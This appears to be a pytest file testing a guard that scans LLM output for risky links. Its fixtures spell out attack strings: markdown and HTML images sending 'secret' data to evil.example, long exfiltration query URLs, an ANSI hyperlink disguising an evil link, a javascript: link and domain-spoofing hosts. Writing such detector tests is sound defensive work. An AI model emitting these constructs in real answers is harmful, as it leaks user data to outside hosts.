"""Markdown/HTML exfiltration, allow-lists and ANSI escapes in output."""

from __future__ import annotations

import pytest

from llmloop.guards.links import LinksConfig, LinksGuard


@pytest.mark.parametrize(
    ("text", "rule_id"),
    [
        ("![c](https://evil.example/c.png?d=secret)", "links.markdown_image"),
        ('<img src="https://evil.example/p.gif">', "links.html_embed"),
        ("[x](https://e.example/?q=" + "a" * 100 + ")", "links.exfiltration"),
        ("see https://e.example/log?d=" + "b" * 100, "links.exfiltration"),
        ("[1]: https://e.example/?q=" + "c" * 100, "links.exfiltration"),
        ("\x1b[31mred\x1b[0m", "ansi.escape"),
        ("\x1b]8;;https://evil.example\x1b\\login\x1b]8;;\x1b\\", "ansi.escape"),
        ("[run](javascript:alert(1))", "links.markdown_link"),
    ],
)
def test_risky_constructs_fire(text: str, rule_id: str) -> None:
    guard = LinksGuard(LinksConfig(block_links=rule_id == "links.markdown_link"))
    [verdict] = guard.check_output(f"Answer: {text}", final=True)
    assert verdict.rule_id == rule_id


@pytest.mark.parametrize(
    "text",
    [
        "See [the docs](https://docs.python.org/3/) and https://pypi.org/project/x/.",
        "![logo](/static/logo.png) and ![rel](images/a.png)",
        "Arrays: a[i](j) is not a link to anything.",
    ],
)
def test_ordinary_answers_pass(text: str) -> None:
    assert LinksGuard().check_output(text, final=True) == []


def test_allow_list_covers_subdomains_only() -> None:
    guard = LinksGuard(LinksConfig(allowed_domains=["example.com"], block_links=True))
    assert guard.check_output("![a](https://cdn.example.com/a.png)", final=True) == []
    assert guard.check_output("[a](https://example.com.evil.net/)", final=True) != []
    assert guard.check_output("[a](https://notexample.com/)", final=True) != []


def test_redact_removes_constructs_and_escapes() -> None:
    guard = LinksGuard(LinksConfig(action="redact"))
    text = "Hi ![c](https://evil.example/c.png) \x1b[31mred\x1b[0m done"
    [verdict] = guard.check_output(text, final=True)
    assert verdict.redacted == "Hi [link removed] red done"


def test_hold_from_keeps_unfinished_constructs() -> None:
    guard = LinksGuard()
    assert guard.hold_from("ok ![img](https://ev") == 3
    assert guard.hold_from("ok <img src='x") == 3
    assert guard.hold_from("ok \x1b[3") == 3
    assert guard.hold_from("see https://exam") == 4
    assert guard.hold_from("plain text") == len("plain text")
